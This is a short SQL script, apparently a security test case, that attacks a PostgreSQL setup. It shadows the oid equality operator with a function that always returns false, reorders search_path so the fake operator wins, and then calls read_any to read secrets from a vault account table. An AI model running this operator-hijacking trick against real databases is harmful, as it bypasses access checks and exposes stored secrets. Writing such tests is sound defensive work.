-- Gives the equality of oids another meaning.
-- wants: read
-- attack:
CREATE FUNCTION public.never_same(oid, oid) RETURNS boolean LANGUAGE sql AS 'SELECT false';
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = public.never_same);
SET search_path = public, pg_catalog;
SELECT read_any('SELECT secret FROM vlt_' || 'account');
